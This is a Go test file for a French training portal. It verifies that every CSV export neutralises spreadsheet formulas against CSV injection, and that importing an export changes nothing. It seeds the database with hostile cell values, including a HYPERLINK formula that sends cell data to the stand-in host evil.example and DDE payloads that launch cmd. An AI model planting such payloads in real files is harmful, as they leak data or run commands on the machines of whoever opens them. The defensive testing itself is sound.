package web_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/go-chi/chi/v5"

	"campus/internal/account"
	"campus/internal/catalogue"
	"campus/internal/sheet"
	"campus/internal/testdb"
)

// Values a spreadsheet would run as formulas (CSV injection), put into the catalogue, the accounts and the
// sessions that the portal's CSV files show.
const (
	hostileLink  = `=HYPERLINK("http://evil.example/?q="&A1;"Cliquez ici")`
	hostileCmd   = `+cmd|' /C calc'!A0`
	hostileSum   = `-2+3`
	hostileAt    = `@SUM(1+1)*cmd|' /C calc'!A0`
	hostileTab   = "\t=1+1"
	hostileSplit = `Paris,=HYPERLINK("http://evil.example/";"x")` // a formula once a "," locale splits the cell
	hostileQuote = `'=1+2`                                        // already "neutralised" by its author: must not come back as a formula
	hostileEmail = "-2+3.agent@exemple.gouv.fr"
)

var (
	// plainNumber is a cell that cannot run as a formula however it starts.
	plainNumber = regexp.MustCompile(`^[+-]?[0-9]+([.,][0-9]+)?$`)
	// splitFormula is a separator that some spreadsheet splits at, followed by a formula's first character.
	splitFormula = regexp.MustCompile(`[,;\t][=+\-@]`)
	// csvRouteID and csvRouteExport turn the paths of the table into the router's patterns.
	csvRouteID     = regexp.MustCompile(`/\d+/`)
	csvRouteExport = regexp.MustCompile(`^/admin/export/[^/]+$`)
)

// readSheet reads a CSV file of the portal (";" separated, after its UTF-8 byte order mark if it has one) into
// its records, failing the test if it is not CSV.
func readSheet(t *testing.T, body []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\xEF\xBB\xBF"))))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV: %v", err)
	}
	return recs
}

// checkSheet checks a CSV file of the portal: UTF-8 byte order mark, ";" separated, CRLF line ends, and no
// cell that a spreadsheet would read as a formula (= + - @ tab CR first) unless it is a plain number. Each of
// want must be a cell of the file, neutralised (so that the test cannot pass on a file without the values).
func checkSheet(t *testing.T, name string, body []byte, want ...string) {
	t.Helper()
	if !bytes.HasPrefix(body, []byte("\xEF\xBB\xBF")) {
		t.Errorf("%s: no UTF-8 byte order mark: %.40q", name, body)
	}
	body = bytes.TrimPrefix(body, []byte("\xEF\xBB\xBF"))
	if !bytes.HasSuffix(body, []byte("\r\n")) || bytes.Count(body, []byte("\n")) != bytes.Count(body, []byte("\r\n")) {
		t.Errorf("%s: not CRLF line ends", name)
	}
	recs := readSheet(t, body)
	if len(recs) < 2 || len(recs[0]) < 2 {
		t.Fatalf("%s: %d records, first %q: not a ';'-separated table", name, len(recs), recs)
	}
	cells := map[string]bool{}
	for i, rec := range recs {
		for j, c := range rec {
			cells[c] = true
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !plainNumber.MatchString(c) {
				t.Errorf("%s: line %d, column %d (%s) is a formula: %q", name, i+1, j+1, recs[0][j], c)
			}
			// A spreadsheet splitting at another separator must not find a formula either.
			if splitFormula.MatchString(c) {
				t.Errorf("%s: line %d, column %d (%s) becomes a formula once split at , ; or tab: %q", name, i+1, j+1, recs[0][j], c)
			}
		}
	}
	for _, w := range want {
		if n := sheet.Neutralise(w); n == w || !cells[n] {
			t.Errorf("%s: no cell %q (the hostile value %q neutralised)", name, n, w)
		}
	}
}

// TestCSV_EveryFileNeutralisesFormulas walks every CSV the portal serves, with hostile values in the database,
// and reads each as a spreadsheet would.
func TestCSV_EveryFileNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	store := backofficeStore(t)
	srv, portal := backofficeServer(t, store)
	admin, _ := signedIn(t, srv, store, account.RoleAdmin)
	trainerB, trainerU := signedIn(t, srv, store, account.RoleTrainer)
	anon := newBrowser(t, srv)

	// A dated module with a future session, an online module, both published, and what they show.
	var moduleID, sessionID, domainID, onlineID, trackID, partnerID int64
	testdb.Row(t, store, `SELECT m.id, s.id, m.domain_id FROM modules m JOIN module_sessions s ON s.module_id = m.id
		JOIN domains d ON d.id = m.domain_id
		WHERE m.status = 'published' AND d.status = 'published' AND s.status = 'scheduled' AND s.starts_at > now() + interval '3 days'
		  AND s.seats_taken < s.capacity
		ORDER BY m.id, s.starts_at LIMIT 1`).Scan(&moduleID, &sessionID, &domainID)
	testdb.Row(t, store, `SELECT id FROM modules WHERE status = 'published' AND format = 'en_ligne' ORDER BY id LIMIT 1`).
		Scan(&onlineID)
	testdb.Row(t, store, `SELECT id FROM tracks WHERE status = 'published' ORDER BY id LIMIT 1`).Scan(&trackID)
	testdb.Row(t, store, `SELECT id FROM partners WHERE status = 'published' ORDER BY id LIMIT 1`).Scan(&partnerID)
	testdb.Exec(t, store, `UPDATE domains SET title = $2, summary = $3 WHERE id = $1`, domainID, hostileLink, hostileSum)
	testdb.Exec(t, store, `UPDATE modules SET title = $2, summary = $3, prerequisites = $4 WHERE id = $1`, moduleID, hostileCmd, hostileSum, hostileQuote)
	testdb.Exec(t, store, `UPDATE modules SET title = $2, summary = $3, prerequisites = $4 WHERE id = $1`, onlineID, hostileAt, hostileLink, hostileSplit)
	testdb.Exec(t, store, `UPDATE tracks SET title = $2, administration = $3 WHERE id = $1`, trackID, hostileLink, hostileCmd)
	testdb.Exec(t, store, `UPDATE partners SET name = $2, short_name = $3 WHERE id = $1`, partnerID, hostileAt, hostileSum)
	testdb.Exec(t, store, `INSERT INTO licence_pools (slug, partner_id, name, size, valid_from, valid_until)
		VALUES ('pool-csv', $1, 'Lot CSV', 10, current_date, current_date + 365)`, partnerID)
	testdb.Exec(t, store, `UPDATE audiences SET label = $1 WHERE id = (SELECT min(id) FROM audiences)`, hostileCmd)
	testdb.Exec(t, store, `UPDATE module_sessions SET place_name = $2, address = $3, city = $4, trainer_id = $5 WHERE id = $1`,
		sessionID, hostileLink, hostileSum, hostileTab, trainerU.ID)
	testdb.Exec(t, store, `UPDATE users SET given_name = $2, usual_name = $3, administration = $4 WHERE id = $1`,
		trainerU.ID, hostileAt, hostileLink, hostileCmd)
	var agent int64
	testdb.Row(t, store, `INSERT INTO users (email, given_name, usual_name, administration) VALUES ($1, $2, $3, $4) RETURNING id`,
		hostileEmail, hostileLink, hostileCmd, hostileSum).Scan(&agent)
	testdb.Exec(t, store, `INSERT INTO enrolments (user_id, module_id, session_id, status, queue_seq, confirmed_at)
		VALUES ($1, $2, $3, 'confirmed', nextval('enrolment_queue_seq'), now())`, agent, moduleID, sessionID)
	testdb.Exec(t, store, `UPDATE module_sessions SET seats_taken = seats_taken + 1 WHERE id = $1`, sessionID)
	testdb.Exec(t, store, `INSERT INTO enrolments (user_id, module_id, status, confirmed_at) VALUES ($1, $2, 'confirmed', now())`, agent, onlineID)
	// A survey answer about a completed online module, its comment published.
	testdb.Exec(t, store, `WITH e AS (INSERT INTO enrolments (user_id, module_id, status, confirmed_at, completed_at)
			VALUES ($1, $2, 'completed', now(), now()) RETURNING id)
		INSERT INTO survey_answers (enrolment_id, kind, satisfaction, usefulness, recommend, comment, comment_status)
		SELECT id, 'chaud', 4, 4, true, $3, 'published' FROM e`, agent, onlineID, hostileSum)

	// The public figures follow a catalogue change within bilanChangeWait on a quiet machine, later under load
	// (the previous ones are served meanwhile): wait until they show the last changes made above.
	eventually(t, 15*time.Second, func() string {
		body := anon.get("/bilan/donnees.csv").body
		for _, w := range []string{hostileAt, hostileCmd} { // no quote in them: written as they are
			if !strings.Contains(body, sheet.Neutralise(w)) {
				return "/bilan/donnees.csv does not show " + w + " yet"
			}
		}
		return ""
	})

	type file struct {
		path string
		who  *browser
		want []string // hostile values the file must show, neutralised
	}
	session, online := strconv.FormatInt(sessionID, 10), strconv.FormatInt(onlineID, 10)
	files := []file{
		{"/bilan/donnees.csv", anon, []string{hostileLink, hostileAt, hostileCmd}},
		{"/admin/avis.csv", admin, []string{hostileAt, hostileSum}},
		{"/admin/bilan/export.csv", admin, []string{hostileLink, hostileAt, hostileCmd}},
		{"/api/catalogue.csv", anon, []string{hostileCmd, hostileSum, hostileAt, hostileLink}},
		{"/admin/sessions/" + session + "/inscrits.csv", admin, []string{hostileLink, hostileCmd, hostileSum, hostileEmail}},
		{"/admin/modules-en-ligne/" + online + "/inscrits.csv", admin, []string{hostileLink, hostileCmd, hostileAt}},
		{"/formateur/sessions/" + session + "/inscrits.csv", trainerB, []string{hostileLink, hostileCmd}},
		{"/admin/export/domaines.csv", admin, []string{hostileLink, hostileSum}},
		{"/admin/export/parcours.csv", admin, []string{hostileLink, hostileCmd}},
		{"/admin/export/modules.csv", admin, []string{hostileCmd, hostileSum, hostileAt, hostileLink, hostileQuote, hostileSplit}},
		{"/admin/export/sessions.csv", admin, []string{hostileLink, hostileSum, hostileTab, hostileAt + " " + hostileLink}},
		{"/admin/export/partenaires.csv", admin, []string{hostileAt, hostileSum}},
		{"/admin/export/publics.csv", admin, []string{hostileCmd}},
	}

	// Every CSV route of the router is in the table (a new one must be added here), and every file the
	// export page offers.
	covered := map[string]bool{}
	for _, f := range files {
		p := csvRouteID.ReplaceAllString(f.path, "/{id}/")
		covered[csvRouteExport.ReplaceAllString(p, "/admin/export/{file}")] = true
	}
	var routes []string
	chi.Walk(portal.Routes(), func(method, pattern string, _ http.Handler, _ ...func(http.Handler) http.Handler) error {
		if method == http.MethodGet && (strings.HasSuffix(pattern, ".csv") || strings.Contains(pattern, "/export")) {
			routes = append(routes, pattern)
		}
		return nil
	})
	if len(routes) < 6 {
		t.Fatalf("chi.Walk reported only %d CSV routes: %v", len(routes), routes)
	}
	for _, r := range routes {
		if !covered[r] {
			t.Errorf("the CSV route %s is not checked by this test", r)
		}
	}
	exportPage := admin.get("/admin/import-export")
	var offered []string
	exportPage.doc.Find(`a[href^="/admin/export/"]`).Each(func(_ int, s *goquery.Selection) {
		offered = append(offered, s.AttrOr("href", ""))
	})
	if len(offered) < 2 || !slices.Contains(offered, "/admin/export/catalogue.zip") {
		t.Fatalf("export page offers %v", offered)
	}
	for _, href := range offered {
		if href != "/admin/export/catalogue.zip" && !slices.ContainsFunc(files, func(f file) bool { return f.path == href }) {
			t.Errorf("the export %s is not checked by this test", href)
		}
	}

	byName := map[string][]string{}
	for _, f := range files {
		t.Run(strings.ReplaceAll(strings.TrimPrefix(f.path, "/"), "/", "_"), func(t *testing.T) {
			p := f.who.get(f.path)
			if p.status != http.StatusOK || !strings.HasPrefix(p.header.Get("Content-Type"), "text/csv") {
				t.Fatalf("%d %s", p.status, p.header.Get("Content-Type"))
			}
			checkSheet(t, f.path, []byte(p.body), f.want...)
		})
		if strings.HasPrefix(f.path, "/admin/export/") {
			byName[strings.TrimPrefix(f.path, "/admin/export/")] = f.want
		}
	}

	t.Run("admin_export_catalogue.zip", func(t *testing.T) {
		p := admin.get("/admin/export/catalogue.zip")
		zr, err := zip.NewReader(strings.NewReader(p.body), int64(len(p.body)))
		if err != nil {
			t.Fatal(err)
		}
		if len(zr.File) != len(byName) {
			t.Errorf("%d files in the zip, %d exports", len(zr.File), len(byName))
		}
		for _, zf := range zr.File {
			want, ok := byName[zf.Name]
			if !ok {
				t.Errorf("zip: unexpected file %s", zf.Name)
			}
			rc, err := zf.Open()
			if err != nil {
				t.Fatal(err)
			}
			b, err := io.ReadAll(rc)
			rc.Close()
			if err != nil {
				t.Fatal(err)
			}
			checkSheet(t, "catalogue.zip/"+zf.Name, b, want...)
		}
	})
}

// TestCSV_ImportReadsItsOwnExport: modules whose texts start with a formula character are exported
// neutralised, and the export imported again changes nothing (the import reads the cells back to their value).
func TestCSV_ImportReadsItsOwnExport(t *testing.T) {
	t.Parallel()
	store, _, b := backofficeAdmin(t)
	hostile := []struct{ title, summary string }{
		{"=SOMME(1;2) Atelier tableur", hostileSum + " pour commencer"},
		{hostileSum + " Tableur", hostileCmd},
		{hostileCmd, hostileAt},
		{hostileAt + " Données", hostileLink},
	}
	slugs := testdb.Column[string](t, store, `SELECT slug FROM modules WHERE status = 'published' ORDER BY id LIMIT $1`, len(hostile))
	if len(slugs) != len(hostile) {
		t.Fatalf("%d modules, want %d", len(slugs), len(hostile))
	}
	var want []string
	for i, h := range hostile {
		// Prose as the back-office stores it, typeset (an import typesets it); the keywords are read as typed, so
		// the cell already "neutralised" by its author is one of them.
		title, summary := catalogue.Typeset(h.title), catalogue.Typeset(h.summary)
		testdb.Exec(t, store, `UPDATE modules SET title = $2, summary = $3, objectives = ARRAY['+objectif', 'suite'], outline = ARRAY['@mot', 'autre'],
			keywords = ARRAY[$4, 'autre'] WHERE slug = $1`, slugs[i], title, summary, hostileQuote)
		want = append(want, title, summary)
	}
	exp := b.get("/admin/export/modules.csv")
	if exp.status != http.StatusOK {
		t.Fatalf("export: %d", exp.status)
	}
	checkSheet(t, "modules.csv", []byte(exp.body), append(want, "+objectif|suite", "@mot|autre", hostileQuote+"|autre")...)

	p := b.postFile("/admin/import", "fichier", "modules.csv", []byte(exp.body))
	if p.status != http.StatusOK || !strings.Contains(text(p.doc.Find(".fr-alert")), "ne change rien") {
		t.Errorf("round trip: %d %q", p.status, text(p.doc.Find(".fr-alert")))
	}
	// The unchanged lines are not in the table of changes: each is listed, folded, under the count.
	if n := p.doc.Find(`tr[id^="ligne-"]`).Length(); n != 0 {
		t.Errorf("%d lines in the table of changes of an import that changes nothing", n)
	}
	folded := text(p.doc.Find("details"))
	for _, slug := range slugs {
		if !strings.Contains(folded, " : "+slug) {
			t.Errorf("module %s is not among the unchanged lines: %q", slug, folded)
		}
	}
}
